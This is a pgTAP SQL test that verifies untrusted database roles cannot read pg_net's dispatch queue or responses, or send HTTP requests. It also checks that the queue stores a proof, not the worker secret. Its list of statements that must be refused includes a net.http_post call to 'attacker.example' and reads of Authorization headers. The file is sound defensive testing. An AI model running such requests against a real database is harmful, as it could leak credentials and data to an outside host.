-- pg_net's schema after migration 1400: its tables (which hold dispatch requests with their
-- Authorization header, and the workers' answers), sequences and functions are nobody's but their
-- owner's; no API or login role, and not PUBLIC, may read them or send requests. Where pg_net belongs
-- to another role (hosted), the revokes cannot hold: pgTAP 17 checks what the rows hold, and the
-- sweep's reading of answers without the index on id migration 1400 made where it could.
begin;
set search_path = public, extensions;
select plan(15);

create temp table untrusted (rolname text primary key);
insert into untrusted values ('public'), ('anon'), ('authenticated'), ('service_role'), ('stripe_webhook'), ('pipeline_worker');

-- ---------------------------------------------------------------- grants
select ok((select count(*) from pg_class where relnamespace = 'net'::regnamespace and relkind = 'r') >= 2,
  'net has its tables (http_request_queue, _http_response)');
select is_empty(
  $$ select u.rolname, c.relname from untrusted u cross join pg_class c
      where c.relnamespace = 'net'::regnamespace and c.relkind in ('r', 'p', 'v', 'm', 'f')
        and has_table_privilege(u.rolname, c.oid, 'select, insert, update, delete, truncate, references, trigger') $$,
  'PUBLIC, anon, authenticated, service_role, stripe_webhook and pipeline_worker hold no privilege on any net table');
select is_empty(
  $$ select c.relname, a.privilege_type from pg_class c cross join lateral aclexplode(c.relacl) a
      where c.relnamespace = 'net'::regnamespace and a.grantee = 0 $$,
  'no net table or sequence carries a grant to PUBLIC');
select is_empty(
  $$ select u.rolname, c.relname from untrusted u cross join pg_class c
      where c.relnamespace = 'net'::regnamespace and c.relkind = 'S'
        and has_sequence_privilege(u.rolname, c.oid, 'usage, select, update') $$,
  'nor on any net sequence');
select is_empty(
  $$ select u.rolname, p.oid::regprocedure from untrusted u cross join pg_proc p
      where p.pronamespace = 'net'::regnamespace and has_function_privilege(u.rolname, p.oid, 'execute') $$,
  'nor may they execute any net function (http_post, http_get, ...)');
select is_empty(
  $$ select u.rolname from untrusted u where has_schema_privilege(u.rolname, 'net', 'usage') $$,
  'nor use the schema net');
select is_empty(
  $$ select c.relname from pg_class c
      where c.relnamespace = 'net'::regnamespace and c.relkind in ('r', 'S')
        and not has_table_privilege(c.relowner, c.oid, 'select, insert, update, delete') $$,
  'the owner keeps every privilege on its tables and sequences');
select is_empty(
  $$ select p.oid::regprocedure from pg_proc p
      where p.pronamespace = 'net'::regnamespace and not has_function_privilege(p.proowner, p.oid, 'execute') $$,
  'and may still execute its functions');

-- ---------------------------------------------------------------- as each role
grant usage on schema extensions to stripe_webhook, pipeline_worker; -- pgTAP, for this transaction only
create function pg_temp.refusals() returns setof text
language plpgsql as $$
declare
  stmt text;
begin
  foreach stmt in array array[
    'select headers from net.http_request_queue',
    'select content from net._http_response',
    'delete from net.http_request_queue',
    $q$select net.http_post('https://attacker.example', '{}'::jsonb)$q$
  ] loop
    begin
      execute stmt;
      return next current_user || ' may run: ' || stmt;
    exception when insufficient_privilege then
      null;
    end;
  end loop;
end
$$;
grant execute on function pg_temp.refusals() to anon, authenticated, service_role, stripe_webhook, pipeline_worker;
set local role anon;
select is_empty('select * from pg_temp.refusals()', 'anon can neither read dispatch requests or answers nor send a request');
reset role;
set local role authenticated;
select is_empty('select * from pg_temp.refusals()', 'authenticated can neither read dispatch requests or answers nor send a request');
reset role;
set local role service_role;
select is_empty('select * from pg_temp.refusals()', 'service_role can neither read dispatch requests or answers nor send a request');
reset role;
set local role stripe_webhook;
select is_empty('select * from pg_temp.refusals()', 'stripe_webhook can neither read dispatch requests or answers nor send a request');
reset role;
set local role pipeline_worker;
select is_empty('select * from pg_temp.refusals()', 'pipeline_worker can neither read dispatch requests or answers nor send a request');
reset role;

-- the dispatcher still works: ops.dispatch_job runs as its owner
insert into ops.job_kinds (kind, function_name) values ('pgtap.net', 'pgtap-net');
select ok((select ops.dispatch_job(ops.enqueue_job('pgtap.net', '{}', 'pgtap:net', interval '1 hour'))) is not null,
  'ops.dispatch_job still queues its request');
select ok(strpos((select headers ->> 'Authorization' from net.http_request_queue order by id desc limit 1),
            (select decrypted_secret from vault.decrypted_secrets where name = 'worker_secret')) = 0,
  'carrying a proof, not the worker secret (pgTAP 17: whoever may read the queue finds no secret there)');

select * from finish();
rollback;
